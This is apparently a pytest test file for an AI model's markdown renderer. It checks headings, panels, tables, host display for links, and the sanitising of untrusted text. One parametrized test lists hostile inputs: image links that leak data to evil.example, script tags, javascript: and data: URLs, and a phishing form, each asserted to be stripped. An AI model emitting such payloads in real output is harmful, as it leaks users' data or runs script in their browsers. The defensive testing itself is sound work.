import pytest
from hypothesis import given
from hypothesis import strategies as st

from xerus.assistant.marks import readable, without_marks
from xerus.assistant.rendering import html_of


def test_markdown_becomes_html() -> None:
    html = html_of("# Title\n\n**bold** and `code`\n\n|a|b|\n|-|-|\n|1|2|")
    assert "<h2>Title</h2>" in html
    assert "<strong>bold</strong>" in html
    assert "<td>1</td>" in html


def test_headings_begin_below_that_of_the_page_and_skip_no_level() -> None:
    html = html_of("## Steps\n\n#### First\n\n# Next")
    assert [html[at + 1 : at + 3] for at in range(len(html)) if html.startswith("<h", at)] == [
        *("h2", "h3", "h2")
    ]


def test_a_panel_of_a_page_is_a_quotation_with_a_name() -> None:
    html = html_of("> > [!WARNING]\n> > Do not press it")
    assert '<blockquote class="is-warning">\n<p><strong>Warning</strong><br>' in html
    assert "Do not press it" in html
    assert "is-" not in html_of("> [!DANGER] class")


def test_a_table_stands_in_a_box_that_scrolls_and_that_the_keyboard_reaches() -> None:
    assert '<div class="table-scroll" tabindex="0"' in html_of("|a|\n|-|\n|1|")
    assert "<div" not in html_of('<div class="table-scroll">')


def test_a_link_shows_the_host_that_it_leads_to() -> None:
    html = html_of("[good.example](https://evil.example/x?y=1)")
    assert "good.example</a> (evil.example)" in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_an_address_written_out_needs_no_host_beside_it() -> None:
    assert "(" not in html_of("<https://acme.example/browse/ENG-1>")


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/leak?data=1)",
        "<img src=https://evil.example/leak>",
        '<a href="https://evil.example" onclick="x()">click</a>',
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        '<form action="https://evil.example"><button>Approve</button></form>',
        "![x][1]\n\n[1]: https://evil.example/leak",
    ],
)
def test_nothing_is_fetched_and_no_html_comes_through(text: str) -> None:
    html = html_of(text).lower()
    for forbidden in (
        "<img",
        "<script",
        "<form",
        "<button",
        'href="javascript',
        'href="data',
        '<a href="https://evil.example" on',
    ):
        assert forbidden not in html


@given(st.text(alphabet="[]()!<>&\"'`*_#|-\n ahtps:/x.", max_size=200))
def test_whatever_is_written_brings_only_known_tags(text: str) -> None:
    html = html_of(text)
    for part in html.split("<")[1:]:
        name = part.lstrip("/").split(">")[0].split()[0]
        assert name in {
            *("a", "blockquote", "br", "code", "del", "div", "em", "hr", "li", "ol", "p", "pre"),
            *("h2", "h3", "h4", "h5", "h6", "s", "strong", "ul"),
            *("table", "tbody", "td", "th", "thead", "tr"),
        }


def test_marks_are_words_for_people_and_leave_no_tag() -> None:
    text = 'Found\n<untrusted source="jira ENG-1" author="Ada">\nHello\n</untrusted>'
    assert readable(text) == "Found\n[written by others: jira ENG-1, Ada]\nHello\n[end]"
    assert "untrusted" not in without_marks(text)
